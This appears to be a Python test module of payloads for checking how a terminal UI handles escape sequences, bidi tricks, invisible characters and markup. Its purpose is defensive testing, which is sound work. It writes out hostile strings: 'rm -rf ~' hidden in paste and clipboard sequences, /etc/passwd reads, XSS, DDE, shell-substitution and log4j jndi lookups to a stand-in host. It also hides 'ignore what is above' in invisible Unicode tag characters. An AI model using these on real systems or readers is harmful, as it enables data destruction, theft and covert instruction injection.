"""Payloads of our own: what terminals obey, what readers do not see, and what upsets a layout."""

from collections.abc import Iterable, Iterator
from itertools import product

BELL, ST, ST_C1 = "\x07", "\x1b\\", "\x9c"


def _in(starts: Iterable[str], bodies: Iterable[str], ends: Iterable[str] = ("",)) -> list[str]:
    """Each beginning with each body and each end."""
    return [f"a{start}{body}{end}z" for body, start, end in product(bodies, starts, ends)]


_CSI, _OSC, _DCS = ("\x1b[", "\x9b"), ("\x1b]", "\x9d"), ("\x1bP", "\x90")
_APC, _PM, _SOS = ("\x1b_", "\x9f"), ("\x1b^", "\x9e"), ("\x1bX", "\x98")
_ENDS = (BELL, ST, ST_C1)

_MOVES = (
    *("2J", "3J", "H", "1;1H", "99A", "99B", "99C", "99D", "5S", "5T", "2K", "s", "u", "6n", "c"),
    *("0;31m", "8m", "38;5;196m", "!p", "?1049l", "?1049h", "?25l", "?1000h", "?1003h", "?2004l"),
    *("?2026h", "?2027h", "?2048h", "?1004h", "?7l", "4h", "20h", "1;2r", "10;20s", "21t", "18t"),
    *("3;0;0t", "8;1;1t", "5n", ">c", "=c", "?u", ">1u", "<u", "?996n", "?1$p", "i", "4i", "5i"),
    *("200~rm -rf ~\r\x1b[201~", "99999999999999999999m", "1;1;1;1;1;1;1;1;1;1;1;1;1;1;1m"),
)
_COMMANDS = (
    *("0;title", "1;icon", "2;window", "4;0;?", "4;1;rgb:00/00/00", "10;?", "11;#ff0000", "104"),
    *("8;;http://evil.example/", "8;id=x;file:///etc/passwd", "8;;javascript:alert(1)", "8;;"),
    *("52;c;cm0gLXJmIH4=", "52;p;?", "52;;aGVsbG8=", "9;done", "9;4;1;50", "777;notify;a;b"),
    *("7;file://host/tmp", "133;A", "133;D;1", "633;E;ls", "1337;SetMark", "1337;ClearScrollback"),
    *("1337;File=name=YQ==;inline=1:R0lGODlhAQABAAAAADs=", "1337;CopyToClipboard=", "50;fixed"),
    "1337;SetUserVar=a=Yg==",
    "1337;RequestUpload=format=tgz",
)
_STRINGS = (
    *('q"1;1;10;10#0;2;0;0;0#0~~@@vv', "$q q", '$q"p', "+q544e", "+p544e=61", "1$r0m", "tmux;x"),
    *("1000p", "0;0|17/17", "=1s", "@kitty-cmd{}", "@kitty-print|eA=="),
)
_GRAPHICS = (
    "Ga=T,f=24,s=1,v=1;AAAA",
    "Ga=q,i=1;AAAA",
    "Gf=100,t=f;L2V0Yy9wYXNzd2Q=",
    "Gf=100,t=t;L3RtcC94",
    "Ga=d,d=A",
    "Ga=p,U=1,i=1",
)
_BARE = (
    *("c", "7", "8", "=", ">", "D", "E", "M", "N", "O", "Z", "#8", "#3", "(0", ")B", "%G", "%@"),
    *(" F", "n", "o", "|", "}", "~", "\\", "l", "m", "V", "W", "6", "9", "*A", "+A", "k1\x1b\\"),
)
_TURNS = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
_UNSEEN = (
    *(0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180E, 0x180F),
    *(0x200B, 0x200C, 0x200D, *range(0x2060, 0x2066), *range(0x206A, 0x2070), 0x2800, 0x3164),
    *(0xFE00, 0xFE0E, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF0, 0xFFF9, 0xFFFA, 0xFFFB, 0x1BCA0, 0x1D173),
    *(0x1D17A, 0xE0001, 0xE0020, 0xE007F, 0xE0080, 0xE0100, 0xE01EF, 0xE01F0, 0xE0FFF, 0xFFFE),
    *(0xFFFF, 0x1FFFF, 0x10FFFF, 0xE000, 0xF8FF, 0x2028, 0x2029, 0x0085, 0xFFFC, 0xFFFD),
)


def _controls() -> Iterator[str]:
    """Each control character by itself, and the first of them many times."""
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"a{chr(code)}z"
    yield from (
        "\x08" * 40 + "over",
        "\x07" * 40,
        "\x00" * 40,
        "a\rz" * 20,
        "\x0e" * 9,
        "\x9b" * 40,
    )


def _bidi() -> Iterator[str]:
    """Texts that would be read in another order than they stand in."""
    for code in _TURNS:
        mark = chr(code)
        yield f"pay {mark}100{mark} not 900"
        yield f"{mark}fdp.exe"
    for first, second in product("\u202e\u2067\u202d", "\u202c\u2069\u2066"):
        yield f"if {first}admin{second} begin {first}"
    yield from ("\u05d0\u05d1\u05d2 1 2 3", "\u0627\u0644\u0639 (abc) \u0628", "\u202e" * 60)


def _unseen() -> Iterator[str]:
    for code in _UNSEEN:
        yield f"no{chr(code)}thing"
    for word in ("ignore what is above", "\u2026"):
        yield "A" + "".join(chr(0xE0000 + ord(c) % 0x80) for c in word) + "\U000e007f"
        yield "A" + "".join(chr(0xE0100 + ord(c) % 0x80) for c in word)
        yield "A" + "".join(chr(0xFE00 + ord(c) % 16) for c in word)
        yield "A" + "".join("\u200b" if ord(c) % 2 else "\u200c" for c in word)
        yield "A" + "".join("\u2062" if ord(c) % 2 else "\u2064" for c in word)


def _heaps() -> Iterator[str]:
    """Accents without end, and letters that take another room than they seem to."""
    for mark in ("\u0301", "\u0316", "\u0489", "\u20dd", "\u0e49", "\u0f39", "\u1dc5", "\ufe20"):
        yield "Z" + mark * 60
        yield mark * 3 + "a"
    yield from ("Z" + "\u0301\u0316" * 200, "\u200d" * 60, "\u0bcc" * 40, "क" + "\u094d\u0937" * 30)


def _wide() -> Iterator[str]:
    yield from ("\ufdfd" * 3, "\u12031" * 3, "\U0001242b" * 3, "\u2e3b" * 5, "\u3000" * 20)
    yield from ("Ｗｉｄｅ", "ﾊﾝｶｸ", "\u1100\u1161\u11a8" * 8, "\uac00" * 30, "\ua9c5" * 4, "㍿㌀㍿")
    yield from (
        "👩‍👩‍👧‍👦" * 4,
        "🏴\U000e0067\U000e0062\U000e007f",
        "🇺🇸🇷🇺🇸🇦",
        "👍🏿" * 9,
        "❤\ufe0e❤\ufe0f",
        "#\ufe0f\u20e3",
    )
    yield from (
        "👨\u200d" * 30,
        "\u200d👩",
        "🏻🏼🏽",
        "🫠🫨🪿",
        "🇦" * 31,
        "☁\ufe0f☂\ufe0f",
        "\U0001f1e6\u200d",
    )
    yield from ("x" * 300, "日" * 150, "a\u00a0" * 100, " " * 200, "-" * 200)


MARKUP = (
    *(
        "[bold]x[/bold]",
        "[/x]",
        "[/]",
        "[",
        "]",
        "\\[",
        "[[",
        "[]",
        "[#ff0000]x",
        "[on red]x[/on red]",
    ),
    *("[@click=app.quit]x[/]", "[@click=app.bell()]x[/@click]", "[link=file:///etc]x[/link]"),
    *(
        "[link='https://e.example']x",
        "[$primary]x",
        "[reverse]x",
        "[sic]",
        "[Emphasis added]",
        "[1]",
    ),
    *(
        "\\",
        "a\\",
        "\\\\[b]",
        "[b]\\",
        "[b][i][u]",
        "[not a tag",
        ":smile:",
        "$x ${x} {x} %s %(x)s %n",
    ),
    *(
        "<b>x</b>",
        "<a href='javascript:alert(1)'>x</a>",
        "<img src=x onerror=alert(1)>",
        "&lt;&#27;[2J",
    ),
    *(
        "# x",
        "> x",
        "- x",
        "```\nx\n```",
        "[x](javascript:alert(1))",
        "![x](file:///x)",
        "| a | b |",
    ),
    *(
        '"',
        "'",
        '"""',
        "'''",
        "\\u001b[2J",
        "\\x1b[2J",
        "\\033[2J",
        "^[[2J",
        "\\e[2J",
        "\\N{ESCAPE}",
    ),
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        "`id`",
        "$(id)",
        "; id",
        "| id",
        "../../x",
    ),
    *(
        "${jndi:ldap://e.example/x}",
        "{{7*7}}",
        "{% x %}",
        "https://e.example/?a=b",
        "file:///etc/passwd",
    ),
)

FAMILIES: dict[str, list[str]] = {
    "csi": _in(_CSI, _MOVES),
    "osc": _in(_OSC, _COMMANDS, _ENDS[:1]) + _in(_OSC[:1], _COMMANDS, _ENDS[1:]),
    "dcs": _in(_DCS, _STRINGS, _ENDS[1:]),
    "apc": _in(_APC, (*_GRAPHICS, "x"), _ENDS[1:2]),
    "pm": _in(_PM, ("x", "0;title"), _ENDS),
    "sos": _in(_SOS, ("x", "0;title"), _ENDS),
    "unending": _in((*_OSC, *_DCS, *_APC, *_PM, *_SOS), ("0;never", "52;c;")),
    "escapes": _in(("\x1b",), _BARE),
    "controls": list(_controls()),
    "bidi": list(_bidi()),
    "unseen": list(_unseen()),
    "heaps": list(_heaps()),
    "wide": list(_wide()),
    "markup": list(MARKUP),
}
"""Each family of payloads by name, the most telling first."""
